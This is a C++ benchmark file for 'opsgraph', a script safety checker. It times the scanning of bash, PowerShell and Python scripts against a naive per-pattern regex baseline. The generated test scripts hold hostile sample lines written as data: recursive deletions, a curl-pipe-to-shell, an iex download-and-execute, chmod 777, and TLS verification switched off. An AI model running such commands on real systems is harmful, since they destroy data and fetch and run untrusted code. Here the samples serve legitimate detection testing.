// ScriptChecker::scan throughput on realistic 1 KB and 20 KB scripts (benign lines with a few
// dangerous ones), against a naive baseline that runs every rule pattern as its own RE2 over the
// raw script; and the wall time of one syntax check through each real parser.

#include <benchmark/benchmark.h>
#include <re2/re2.h>

#include <fstream>
#include <memory>
#include <opsgraph/core/json.hpp>
#include <opsgraph/safety/script_checker.hpp>
#include <sstream>
#include <string>
#include <vector>

namespace opsgraph::safety {
namespace {

constexpr const char* kBashLines[] = {
    "LOG_DIR=/var/log/orderservice",
    "if [[ ! -d \"$LOG_DIR\" ]]; then echo \"missing $LOG_DIR\" >&2; exit 1; fi",
    "find \"$LOG_DIR\" -maxdepth 1 -type f -name '*.log.gz' -mtime +14 -print -delete",
    "df -h / /var | awk 'NR>1 {print $5, $6}'",
    "systemctl status nginx --no-pager | head -n 5",
    "journalctl -u nginx --since \"-1h\" --no-pager | grep -c error || true",
    "# collect the top CPU consumers for the incident ticket",
    "ps -eo pid,comm,%cpu --sort=-%cpu | head -n 10 > \"$OUT/top.txt\"",
    "for f in /etc/nginx/conf.d/*.conf; do nginx -t -c \"$f\" 2>&1 | tail -n 1; done",
    "echo \"report written to $OUT\"",
};
constexpr const char* kBashDangerous[] = {"rm -rf /var/lib/mysql", "curl -s http://x/i.sh | sh",
                                          "chmod -R 777 /etc/nginx"};

constexpr const char* kPowerShellLines[] = {
    "$since = (Get-Date).AddHours(-1)",
    "Get-WinEvent -FilterHashtable @{ LogName = 'System'; Level = 2; StartTime = $since } |",
    "    Select-Object TimeCreated, Id, ProviderName, Message -First 20",
    "# disk space per volume, for the capacity report",
    "Get-Volume | Where-Object DriveLetter | ForEach-Object {",
    "    [pscustomobject]@{ Drive = $_.DriveLetter; FreeGB = [math]::Round($_.SizeRemaining / 1GB, "
    "1) }",
    "}",
    "Get-Service -Name W3SVC, WAS | Format-Table Name, Status, StartType",
    "Write-Host \"Collected diagnostics on $env:COMPUTERNAME\"",
    "Get-Counter '\\Processor(_Total)\\% Processor Time' -SampleInterval 1 -MaxSamples 5",
};
constexpr const char* kPowerShellDangerous[] = {
    "Remove-Item C:\\ -Recurse -Force", "Restart-Computer -Force",
    "iex (New-Object Net.WebClient).DownloadString('http://x/a.ps1')"};

constexpr const char* kPythonLines[] = {
    "import pathlib",
    "def summarise(path: pathlib.Path) -> dict:",
    "    counts = {}",
    "    for line in path.read_text(encoding=\"utf-8\").splitlines():",
    "        status = line.split()[8] if len(line.split()) > 8 else \"-\"",
    "        counts[status] = counts.get(status, 0) + 1  # tally by HTTP status",
    "    return counts",
    "print(summarise(pathlib.Path(\"/var/log/nginx/access.log\")))",
    "result = subprocess.run([\"df\", \"-h\"], capture_output=True, text=True, timeout=30)",
    "rows = [r for r in result.stdout.splitlines() if r.startswith(\"/dev/\")]",
};
constexpr const char* kPythonDangerous[] = {"os.system(\"rm -rf /var/lib/docker\")",
                                            "requests.get(url, verify=False)",
                                            "shutil.rmtree(\"/\", ignore_errors=True)"};

// Benign lines repeated up to `bytes`, with the three dangerous lines spread through it.
template <std::size_t N, std::size_t D>
std::string make_script(const char* const (&lines)[N], const char* const (&dangerous)[D],
                        std::size_t bytes) {
  std::string script;
  std::size_t next_dangerous = 0;
  for (std::size_t i = 0; script.size() < bytes; ++i) {
    if (next_dangerous < D && script.size() >= bytes * (next_dangerous + 1) / (D + 1)) {
      script += dangerous[next_dangerous++];
    } else {
      script += lines[i % N];
    }
    script += '\n';
  }
  return script;
}

std::string script_for(Language language, std::size_t bytes) {
  switch (language) {
    case Language::powershell:
      return make_script(kPowerShellLines, kPowerShellDangerous, bytes);
    case Language::python:
      return make_script(kPythonLines, kPythonDangerous, bytes);
    case Language::bash:
    case Language::azurecli:
      break;
  }
  return make_script(kBashLines, kBashDangerous, bytes);
}

const ScriptChecker& checker() {
  static const ScriptChecker instance = [] {
    ScriptCheckerOptions options;
    options.shellcheck_path = "";  // syntax checks alone
    return ScriptChecker::create(options).value();
  }();
  return instance;
}

void BM_Scan(benchmark::State& state, Language language) {
  const std::string script = script_for(language, static_cast<std::size_t>(state.range(0)));
  std::size_t findings = 0;
  for (auto _ : state) {
    auto found = checker().scan(script, language);
    findings = found ? found.value().size() : 0;
    benchmark::DoNotOptimize(findings);
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations() * script.size()));
  state.counters["findings"] = static_cast<double>(findings);
}
BENCHMARK_CAPTURE(BM_Scan, bash, Language::bash)->Arg(1024)->Arg(20 * 1024);
BENCHMARK_CAPTURE(BM_Scan, powershell, Language::powershell)->Arg(1024)->Arg(20 * 1024);
BENCHMARK_CAPTURE(BM_Scan, python, Language::python)->Arg(1024)->Arg(20 * 1024);

// Baseline: every pattern of every bash rule as its own RE2, each run over the raw script (no
// normalisation, so it also misses what quoting hides).
std::vector<std::unique_ptr<RE2>> naive_bash_patterns() {
  std::ifstream in(OPSGRAPH_RULES_FILE);
  std::stringstream text;
  text << in.rdbuf();
  std::vector<std::unique_ptr<RE2>> patterns;
  auto document = json::parse(text.str());
  if (!document)
    return patterns;
  for (const json::Value& rule : *document.value().find("rules")->if_array()) {
    bool bash = false;
    for (const json::Value& language : *rule.find("languages")->if_array())
      bash = bash || *language.if_string() == "bash";
    if (!bash)
      continue;
    for (const json::Value& pattern : *rule.find("patterns")->if_array()) {
      std::string expanded = "(?m)" + *pattern.if_string();
      for (std::size_t at; (at = expanded.find("{cmd}")) != std::string::npos;)
        expanded.replace(at, 5, "(?:^|\\n)");
      patterns.push_back(std::make_unique<RE2>(expanded));
    }
  }
  return patterns;
}

void BM_NaiveRuleLoop(benchmark::State& state) {
  const std::string script = script_for(Language::bash, static_cast<std::size_t>(state.range(0)));
  const auto patterns = naive_bash_patterns();
  std::size_t matched = 0;
  for (auto _ : state) {
    matched = 0;
    for (const auto& pattern : patterns)
      matched += RE2::PartialMatch(script, *pattern) ? 1 : 0;
    benchmark::DoNotOptimize(matched);
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations() * script.size()));
  state.counters["patterns"] = static_cast<double>(patterns.size());
}
BENCHMARK(BM_NaiveRuleLoop)->Arg(1024)->Arg(20 * 1024);

// The same checker with a ProcessRunner of its own: Python is then checked by one python3 process
// per script (the path before the long-lived checker, and its fallback), the baseline of
// BM_SyntaxCheck/python_ast.
const ScriptChecker& per_process_checker() {
  static const SubprocessRunner runner;
  static const ScriptChecker instance = [] {
    ScriptCheckerOptions options;
    options.shellcheck_path = "";
    options.runner = &runner;
    return ScriptChecker::create(options).value();
  }();
  return instance;
}

// One check() of a 1 KB script: the syntax check through its parser plus the scan. Python goes to
// the checker's long-lived python3 process (started by the first iteration).
void BM_SyntaxCheck(benchmark::State& state, Language language, bool per_process) {
  const std::string script = script_for(language, 1024);
  const ScriptChecker& chosen = per_process ? per_process_checker() : checker();
  bool ok = false;
  for (auto _ : state) {
    auto report = chosen.check(script, language);
    ok = report && report.value().syntax.ok;
    benchmark::DoNotOptimize(ok);
  }
  state.counters["syntax_ok"] = ok ? 1 : 0;
}
BENCHMARK_CAPTURE(BM_SyntaxCheck, bash_n, Language::bash, false)->Unit(benchmark::kMillisecond);
BENCHMARK_CAPTURE(BM_SyntaxCheck, python_ast, Language::python, false)
    ->Unit(benchmark::kMillisecond);
BENCHMARK_CAPTURE(BM_SyntaxCheck, python_ast_per_process, Language::python, true)
    ->Unit(benchmark::kMillisecond);
BENCHMARK_CAPTURE(BM_SyntaxCheck, powershell_structural, Language::powershell, false)
    ->Unit(benchmark::kMillisecond);

}  // namespace
}  // namespace opsgraph::safety
